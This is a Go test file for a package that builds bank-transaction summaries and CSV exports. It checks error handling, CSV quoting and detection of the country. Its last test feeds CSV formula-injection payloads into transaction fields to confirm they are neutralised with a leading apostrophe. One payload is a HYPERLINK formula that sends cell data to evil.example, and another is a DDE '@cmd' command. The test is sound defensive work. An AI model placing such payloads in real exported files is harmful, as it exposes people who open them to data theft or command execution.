package summary

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

func TestReadResult_Errors(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	for _, tc := range []struct {
		name, path, want string
		missing          bool
	}{
		{"missing", filepath.Join(dir, "gone.json"), "gone.json: no such file or directory", true},
		{"truncated", write("cut.json", "{\n  \"data\": {\n    \"attributes\": {\"status\": \"comp"), "cut.json:3:", false},
		{"wrong type", write("type.json", "{\"data\": {\"attributes\": {\"status\": 5}}}"), "type.json:1:", false},
		{"not completed", write("wait.json", `{"data": {"attributes": {"status": "processing"}}}`), `not completed (status "processing")`, false},
		{"a directory", dir, "not a regular file", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ReadResult(tc.path)
			var fe *FileError
			if !errors.As(err, &fe) || !strings.Contains(err.Error(), tc.want) || !strings.HasPrefix(err.Error(), "output file ") || fe.Missing() != tc.missing {
				t.Errorf("err = %v; want a FileError with %q (missing %v)", err, tc.want, tc.missing)
			}
		})
	}
	if _, err := ReadResult(write("wait2.json", `{"data": {"attributes": {"status": "queued"}}}`)); !errors.Is(err, ErrNotCompleted) {
		t.Errorf("err = %v; want ErrNotCompleted", err)
	}
}

func TestWriteCSV(t *testing.T) {
	res := handBuilt()
	res.Categorisation.Accounts[0].Currencies[0].Transactions[0].Info = ptr(`SALARY "ACME", LTD`)
	s, err := Build(res, Options{Tree: tree})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 7 {
		t.Fatalf("rows = %d, want a header and 6", len(rows))
	}
	want := []string{"2026-01-05", "GB01", "GBP", "2000.00", "85", "Salary", "", `SALARY "ACME", LTD`, ""}
	if strings.Join(rows[1], "|") != strings.Join(want, "|") {
		t.Errorf("row 1 = %q, want %q", rows[1], want)
	}
	if rows[3][3] != "-0.10" || rows[3][5] != "Groceries" {
		t.Errorf("row 3 = %q", rows[3])
	}
}

func TestCountryOf(t *testing.T) {
	res := handBuilt()
	if got := CountryOf(res, "UK"); got != "uk" {
		t.Errorf("given: %q", got)
	}
	if got := CountryOf(res, ""); got != "uk" {
		t.Errorf("from the accounts: %q", got)
	}
	res.Categorisation.Accounts[0].Country = nil
	res.Categorisation.CategoryTreeVersion = ptr("de_202601010000")
	if got := CountryOf(res, ""); got != "de" {
		t.Errorf("from the version: %q", got)
	}
	res.Categorisation = nil
	if got := CountryOf(res, ""); got != "" {
		t.Errorf("without a categorisation: %q", got)
	}
}

// TestWriteCSV_Formulas: a statement's text that a spreadsheet would take
// as a formula (=, +, -, @, a tab or a carriage return first) is written
// with a leading apostrophe, so opening the CSV runs nothing; the amounts,
// which ledgerform writes itself, stay numbers.
func TestWriteCSV_Formulas(t *testing.T) {
	res := handBuilt()
	txs := res.Categorisation.Accounts[0].Currencies[0].Transactions
	txs[0].Info = ptr(`=HYPERLINK("http://evil.example/?"&A1,"click")`)
	txs[0].Partner = ptr("+SUM(1,2)")
	txs[1].Info = ptr("@cmd|' /C calc'!A0")
	txs[1].Partner = ptr("-2+3")
	txs[2].Info = ptr("\tTAB")
	txs[2].Partner = ptr("\rCR")
	txs[3].Info = ptr("TESCO = good, -5% off") // only the first character matters
	res.Categorisation.Accounts[0].AccountNumber = ptr("=GB01")
	s, err := Build(res, Options{Tree: tree})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	byDesc := map[string][]string{}
	for _, r := range rows[1:] {
		byDesc[r[7]] = r
		if r[1] != "'=GB01" {
			t.Errorf("account = %q, want '=GB01", r[1])
		}
	}
	for desc, partner := range map[string]string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`: "'+SUM(1,2)",
		"'@cmd|' /C calc'!A0":                             "'-2+3",
		"'\tTAB":                                          "'\rCR",
		"TESCO = good, -5% off":                           "",
	} {
		r, ok := byDesc[desc]
		if !ok {
			t.Errorf("no row with description %q; rows %q", desc, rows)
			continue
		}
		if r[6] != partner {
			t.Errorf("partner of %q = %q, want %q", desc, r[6], partner)
		}
	}
	for _, r := range rows[1:] {
		if _, err := strconv.ParseFloat(r[3], 64); err != nil || strings.HasPrefix(r[3], "'") {
			t.Errorf("amount %q is not a plain number", r[3])
		}
	}
}
